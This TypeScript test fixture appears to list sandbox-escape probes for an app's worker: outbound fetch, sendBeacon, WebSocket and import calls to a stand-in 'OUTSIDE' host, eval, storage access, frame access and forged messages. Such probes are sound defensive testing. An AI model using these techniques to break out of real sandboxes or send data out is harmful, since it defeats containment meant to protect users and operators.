/**
 * Escape attempts in the native lane's worker. `say` reports success; an error or silence is correct.
 * `OUTSIDE` is a server that records every request, `APP` the app's own.
 */
export const doorPrograms: { title: string; code: string }[] = [
  { title: 'fetch', code: `await fetch('OUTSIDE/x'); say('fetched')` },
  { title: "fetch from the app's server", code: `await fetch('APP/'); say('fetched')` },
  {
    title: 'fetch without reading',
    code: `await fetch('OUTSIDE/x', { mode: 'no-cors', keepalive: true }); say('sent')`,
  },
  {
    title: 'XMLHttpRequest',
    code: `const r = new XMLHttpRequest(); r.open('GET', 'OUTSIDE/x', false); r.send(); say('got ' + r.status)`,
  },
  {
    title: 'WebSocket',
    code: `await new Promise((done, fail) => { const s = new WebSocket('OUTSIDE/ws'.replace('http', 'ws')); s.onopen = () => { say('open'); done() }; s.onerror = () => fail('no') })`,
  },
  {
    title: 'EventSource',
    code: `await new Promise((done, fail) => { const s = new EventSource('OUTSIDE/events'); s.onopen = () => { say('open'); done() }; s.onerror = () => { s.close(); fail('no') } })`,
  },
  {
    title: 'WebTransport',
    code: `const t = new WebTransport('OUTSIDE/'.replace('http:', 'https:')); await t.ready; say('open')`,
  },
  {
    title: 'WebRTC',
    code: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }); c.createDataChannel('x'); say('made')`,
  },
  { title: 'sendBeacon', code: `if (navigator.sendBeacon('OUTSIDE/x', 'y')) say('sent')` },
  { title: 'import', code: `await import('OUTSIDE/x.js'); say('imported')` },
  { title: 'import of text', code: `await import('data:text/javascript,1'); say('imported')` },
  { title: 'importScripts', code: `importScripts('OUTSIDE/x.js'); say('imported')` },
  { title: 'importScripts of a blob', code: `importScripts(URL.createObjectURL(new Blob(['say("ran")'])));` },
  {
    title: 'text as code',
    code: `for (const f of [() => eval('1'), () => new Function('return 1')()]) try { f(); say('ran') } catch {}`,
  },
  { title: 'a font', code: `await new FontFace('x', 'url(OUTSIDE/font.woff2)').load(); say('loaded')` },
  {
    title: 'a nested worker that fetches',
    code: `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('OUTSIDE/x').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => { if (e.data) say('fetched'); done() }; w.onerror = () => fail('no') })`,
  },
  { title: 'a shared worker', code: `new SharedWorker('APP/x.js'); say('made')` },
  {
    title: 'IndexedDB',
    code: `await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => { say('open'); done() }; r.onerror = () => fail('no') })`,
  },
  { title: 'Cache Storage', code: `const c = await caches.open('runtimes'); say('open')` },
  { title: 'local storage', code: `localStorage.length; say('read')` },
  { title: 'files', code: `await navigator.storage.getDirectory(); say('open')` },
  {
    title: 'a channel to the app',
    code: `const c = new BroadcastChannel('app'); c.onmessage = () => say('heard'); c.postMessage('hello'); await new Promise((r) => setTimeout(r, 100))`,
  },
  { title: 'locks', code: `await navigator.locks.request('x', () => say('held'))` },
  { title: 'the document', code: `document.title = 'x'; say('reached')` },
  {
    title: 'names of the frame',
    code: `for (const name of ['document', 'window', 'parent', 'top', 'opener', 'frames', 'frameElement']) if (typeof self[name] !== 'undefined') say(name)`,
  },
  {
    title: 'forged messages to the frame',
    code: `for (const type of ['run', 'stop', 'eval', 'connect']) postMessage({ type, id: 1, script: "fetch('OUTSIDE/frame')", run: { id: 1, script: "fetch('OUTSIDE/run')", timeLimitMs: 1000, outputLimitBytes: 9 }, outcome: 'ok', toString: 'x', __proto__: { then: 1 } }); const { port1, port2 } = new MessageChannel(); port1.onmessage = () => say('answered'); postMessage({ type: 'started' }, [port2]); await new Promise((r) => setTimeout(r, 200))`,
  },
  {
    title: 'a worker at its own address, and navigation',
    code: `const at = new Worker(location.href); await new Promise((done, fail) => { at.onmessage = () => done(); at.onerror = () => fail('no'); setTimeout(done, 300) }); location.href = 'OUTSIDE/moved'; await new Promise((r) => setTimeout(r, 100)); if (!location.href.startsWith('blob:null')) say(location.href)`,
  },
  { title: 'the app as a window', code: `parent.postMessage('x', '*'); say('sent')` },
  {
    title: 'WebAssembly',
    code: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); say('compiled')`,
  },
  {
    title: 'a service worker',
    code: `await navigator.serviceWorker.register('APP/sw.js'); say('registered')`,
  },
];
